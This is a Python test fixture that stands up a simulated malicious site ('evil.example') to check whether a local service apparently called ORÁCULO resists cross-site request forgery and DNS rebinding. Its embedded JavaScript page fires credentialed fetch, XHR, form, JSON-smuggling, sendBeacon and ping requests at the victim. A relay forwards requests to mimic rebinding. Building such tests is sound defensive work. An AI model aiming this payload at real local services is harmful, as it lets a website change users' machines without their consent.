"""A web site that wants to change things on this machine: its page tries all that a browser lets it send.

The site also hands on, unchanged, whatever its page asks of the site itself: to the browser that is one origin, as
after an attacker's name was changed to mean this machine (DNS rebinding).
"""

import json
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

NAME = "evil.example"
_PAGE = """<!doctype html><meta charset="utf-8"><title>A nice page</title><body><script>
const {targets, calls, inner} = DATA;
const tried = [];
const KINDS = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"];
const ended = (frame) => new Promise((done) => { frame.onload = done; setTimeout(done, 5000); });

function frame() {
  const made = document.createElement("iframe");
  made.name = "f" + Math.random();
  document.body.append(made);
  return made;
}
function form(address, body, kind) {
  const made = document.createElement("form"), target = frame();
  Object.assign(made, {method: "POST", action: address, enctype: kind, target: target.name});
  if (body) {  // with text/plain the name and value make the JSON itself
    const field = document.createElement("input"), cut = body.indexOf(":") + 1;
    Object.assign(field, {name: body.slice(0, cut) + '"', value: '":' + body.slice(cut)});
    made.append(field);
  }
  document.body.append(made);
  made.submit();
  return ended(target);
}
function ping(address) {
  const link = document.createElement("a"), target = frame();
  Object.assign(link, {href: "about:blank", ping: address, target: target.name});
  document.body.append(link);
  link.click();
}
function xhr(method, address, body, kind) {
  return new Promise((done) => {
    const request = new XMLHttpRequest();
    request.open(method, address);
    if (kind) request.setRequestHeader("Content-Type", kind);
    request.onloadend = done;
    request.send(body);
  });
}
for (const target of targets) for (const {method, path, body} of calls) {
  const address = target + path;
  for (const mode of ["no-cors", "cors"]) {
    const options = {method, mode, credentials: "include"};
    tried.push(() => fetch(address, options));
    for (const kind of [...KINDS, "application/json", "application/yaml"])
      tried.push(() => fetch(address, {...options, headers: {"Content-Type": kind}, body}));
  }
  tried.push(() => xhr(method, address, body, "text/plain"), () => xhr(method, address, body, null));
  tried.push(() => fetch(address, {method, mode: "no-cors", keepalive: true, body}));
  if (method != "POST") continue;
  for (const kind of KINDS) tried.push(() => form(address, body, kind), () => form(address, null, kind));
  for (const kind of [...KINDS, "application/json"])
    tried.push(async () => navigator.sendBeacon(address, new Blob([body || ""], {type: kind})));
  tried.push(async () => navigator.sendBeacon(address), async () => ping(address));
}
if (inner) frame().src = inner;
(async () => {
  await Promise.allSettled(tried.map(async (attempt) => attempt()));
  await fetch("/evil/done");
})();
</script>"""


class EvilSite:
    def __init__(self, victim: str, calls: list[dict[str, str | None]]) -> None:
        self.done = threading.Semaphore(0)  # released when a page has tried everything
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self._calls = calls
        self._victim = victim
        self.url = f"http://{NAME}:{self._server.server_port}/evil/"

    def _page(self, path: str) -> str:
        """The page, and in it one of another port of this machine: another origin of the same site as ORÁCULO."""
        neighbour = f"http://127.0.0.1:{self._server.server_port}/evil/neighbour"
        is_outer = path == "/evil/"
        targets = [self._victim, self.url.removesuffix("/evil/")] if is_outer else [self._victim]
        data = {"targets": targets, "calls": self._calls, "inner": neighbour if is_outer else ""}
        return _PAGE.replace("DATA", json.dumps(data))

    def _handler(site) -> type[BaseHTTPRequestHandler]:  # noqa: N805 - the handler has a `self` of its own
        class Handler(BaseHTTPRequestHandler):
            def answer(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                status, kind, answer = 200, "text/html", b""
                if self.path == "/evil/done":
                    site.done.release()
                elif self.path.startswith("/evil/"):
                    answer = site._page(self.path).encode()
                else:
                    status, kind, answer = self.hand_on(body)
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(answer)))
                self.end_headers()
                self.wfile.write(answer)

            def hand_on(self, body: bytes) -> tuple[int, str, bytes]:
                connection = HTTPConnection(site._victim.removeprefix("http://"), timeout=10)
                with closing(connection):
                    connection.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
                    for name, value in self.headers.items():
                        connection.putheader(name, value)
                    connection.endheaders(body)
                    reply = connection.getresponse()
                    return reply.status, reply.getheader("Content-Type", ""), reply.read()

            do_GET = do_POST = do_PUT = do_DELETE = do_OPTIONS = answer  # noqa: N815 - the names that the base looks for

            def log_message(self, *_: object) -> None:
                """Stay silent."""

        return Handler

    @contextmanager
    def open(self) -> Iterator[None]:
        thread = threading.Thread(target=self._server.serve_forever, args=(0.05,))
        thread.start()
        try:
            yield
        finally:
            self._server.shutdown()
            thread.join()
            self._server.server_close()
